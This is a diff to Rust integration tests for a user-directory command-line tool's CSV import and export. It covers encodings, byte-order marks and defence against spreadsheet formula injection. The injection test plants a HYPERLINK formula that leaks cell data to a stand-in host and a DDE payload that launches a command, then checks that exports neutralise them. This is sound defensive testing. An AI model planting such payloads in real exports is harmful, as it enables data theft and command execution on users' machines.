@@ -753,7 +753,10 @@ fn users_import_reports_every_bad_line_and_is_all_or_nothing_then_exports_withou
     assert_eq!(count(&db), 301);
     let written = std::fs::read_to_string(&invites).unwrap();
     let mut rows = written.lines();
-    assert_eq!(rows.next(), Some("userName,email,invitation,expiresTime"));
+    assert_eq!(
+        rows.next(),
+        Some("\u{FEFF}userName,email,invitation,expiresTime")
+    );
     let first: Vec<&str> = rows.next().unwrap().split(',').collect();
     assert_eq!(first[0], "user0");
     assert_eq!(first[2].len(), 43, "the one-time code of a local file");
@@ -775,7 +778,7 @@ fn users_import_reports_every_bad_line_and_is_all_or_nothing_then_exports_withou
     let exported = as_root(&db, &["users", "export"], "").ok();
     assert!(exported
         .stdout
-        .starts_with("userName,displayName,email,status,type,roles,groups"));
+        .starts_with("\u{FEFF}userName,displayName,email,status,type,roles,groups\r\n"));
     assert!(
         exported
             .stdout
@@ -802,6 +805,183 @@ fn users_import_reports_every_bad_line_and_is_all_or_nothing_then_exports_withou
         "root is in both: refused, with its line"
     );
     assert!(reimport.stderr.contains("userName:"), "{}", reimport.stderr);
+}
+
+/// Cells of an exported CSV file (after its byte-order mark) that a spreadsheet would run.
+fn formulas_in(csv: &str) -> Vec<String> {
+    let mut reader = ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
+    reader
+        .records()
+        .flat_map(|record| {
+            record
+                .unwrap()
+                .iter()
+                .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
+                .map(str::to_owned)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+#[test]
+fn files_excel_writes_are_imported_and_exports_open_in_excel_without_running_anything() {
+    let tmp = tempfile::TempDir::new().unwrap();
+    let db = initialised(&tmp);
+    as_root(&db, &["groups", "add", "--name", "Support"], "").ok();
+    let file = |name: &str, bytes: &[u8]| {
+        let path = tmp.path().join(name);
+        std::fs::write(&path, bytes).unwrap();
+        path.to_str().unwrap().to_owned()
+    };
+    let import = |path: &str| as_root(&db, &["users", "import", path], "");
+    let display_name = |db: &std::path::Path, user: &str| {
+        as_root(db, &["users", "show", user, "--json"], "")
+            .ok()
+            .json()["displayName"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+
+    // "CSV UTF-8 (Comma delimited)": a byte-order mark, CRLF, a roles cell with a line break
+    // (Alt+Enter), and a notes column of its own with quotes, a comma and a line break.
+    let utf8 = file(
+        "utf8.csv",
+        b"\xEF\xBB\xBFuserName,displayName,email,roles,Notes\r\n\
+          anna,Anna M\xC3\xBCller,anna@example.com,\"Viewer\nOperator\",\"Met on site, said \"\"hi\"\"\nCall back\"\r\n",
+    );
+    let done = import(&utf8).ok();
+    assert!(done.stdout.contains("Imported 1 users"), "{}", done.stdout);
+    assert!(!done.stderr.contains("note:"), "{}", done.stderr);
+    assert_eq!(display_name(&db, "anna"), "Anna Müller");
+    let anna = as_root(&db, &["users", "show", "anna", "--json"], "")
+        .ok()
+        .json();
+    assert_eq!(anna["roles"].as_array().unwrap().len(), 2, "{anna}");
+
+    // "CSV (Comma delimited)" in a German Excel: Windows-1252, ';', a quoted ';' and a '€'.
+    let ansi = file(
+        "ansi.csv",
+        b"userName;displayName;email;groups\r\n\
+          carl;Carl M\xFCller;carl@example.com;Support\r\n\
+          dora;\"Dora; \x80 team\";dora@example.com;\r\n\
+          ;;;\r\n",
+    );
+    let done = import(&ansi).ok();
+    assert!(done.stdout.contains("Imported 2 users"), "{}", done.stdout);
+    assert!(
+        done.stderr
+            .contains("note: ansi.csv is not UTF-8: it was read as Windows-1252"),
+        "{}",
+        done.stderr
+    );
+    assert_eq!(display_name(&db, "carl"), "Carl Müller");
+    assert_eq!(display_name(&db, "dora"), "Dora; € team");
+
+    // Neither: UTF-8 in one line and not in another. Refused on the line, with what to do.
+    let mixed = file(
+        "mixed.csv",
+        b"userName,displayName,email\r\nemil,Emil \xC3\x96z,emil@example.com\r\nfritz,Fritz M\xFCller,fritz@example.com\r\n",
+    );
+    let refused = import(&mixed);
+    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
+    assert!(
+        refused.stderr.contains("line 3: this line is not UTF-8")
+            && refused
+                .stderr
+                .contains("\"CSV UTF-8 (Comma delimited) (*.csv)\""),
+        "{}",
+        refused.stderr
+    );
+    assert_eq!(
+        as_root(&db, &["users", "show", "emil"], "").code,
+        Some(1),
+        "nothing was imported"
+    );
+
+    // Formulas planted three ways: an import file, the command line on the file, a server.
+    let planted = file(
+        "planted.csv",
+        b"userName,displayName,email\n\
+          eve,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",eve@example.com\n\
+          @mal,+cmd|' /C calc'!A0,+mal@example.com\n",
+    );
+    import(&planted).ok();
+    as_root(
+        &db,
+        &["users", "edit", "carl", "--display-name='=SUM(1)"],
+        "",
+    )
+    .ok();
+    let directory = keyward::store::SqliteDirectory::open(&db).unwrap();
+    let (server, token) = serving(directory, "127.0.0.1:0");
+    let on_server = |args: &[&str]| {
+        let mut command = keyward();
+        command
+            .args(args)
+            .args(["--server", &server.url()])
+            .env("KEYWARD_TOKEN", token.expose());
+        run(&mut command, "").ok()
+    };
+    on_server(&["users", "edit", "dora", "--display-name=-2+3"]);
+    let wanted = [
+        ("eve", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
+        ("@mal", "+cmd|' /C calc'!A0"),
+        ("carl", "'=SUM(1)"),
+        ("dora", "-2+3"),
+        ("anna", "Anna Müller"),
+    ];
+
+    // Every way out: the command line on the file (to a file and to stdout), and on a server.
+    let exports = [
+        {
+            let out = tmp.path().join("users.csv");
+            as_root(&db, &["users", "export", out.to_str().unwrap()], "").ok();
+            String::from_utf8(std::fs::read(&out).unwrap()).unwrap()
+        },
+        as_root(&db, &["users", "export"], "").ok().stdout,
+        on_server(&["users", "export", "--format", "csv"]).stdout,
+    ];
+    for csv in &exports {
+        assert!(csv.starts_with("\u{FEFF}userName,"), "{csv}");
+        assert_eq!(
+            csv.matches("\r\n").count(),
+            csv.matches('\n').count(),
+            "CRLF only: {csv}"
+        );
+        assert_eq!(formulas_in(csv), Vec::<String>::new(), "{csv}");
+        for cell in [
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
+            "'@mal,'+cmd|' /C calc'!A0,'+mal@example.com",
+            "carl,''=SUM(1),",
+            "dora,'-2+3,",
+            "anna,Anna Müller,",
+        ] {
+            assert!(csv.contains(cell), "{cell} in {csv}");
+        }
+    }
+    assert_eq!(exports[0], exports[2], "the same file from a server");
+    drop(server);
+
+    // Imported elsewhere, the export gives back every value as it was.
+    let other = tempfile::TempDir::new().unwrap();
+    let other_db = initialised(&other);
+    as_root(&other_db, &["groups", "add", "--name", "Support"], "").ok();
+    let without_root: String = exports[0]
+        .split_inclusive("\r\n")
+        .filter(|line| !line.starts_with("root,"))
+        .collect();
+    let back = file("back.csv", without_root.as_bytes());
+    as_root(&other_db, &["users", "import", &back], "").ok();
+    for (user, name) in wanted {
+        assert_eq!(display_name(&other_db, user), name);
+    }
+    let mal = as_root(&other_db, &["users", "show", "@mal", "--json"], "")
+        .ok()
+        .json();
+    assert_eq!(mal["email"], "+mal@example.com");
 }
 
 #[test]
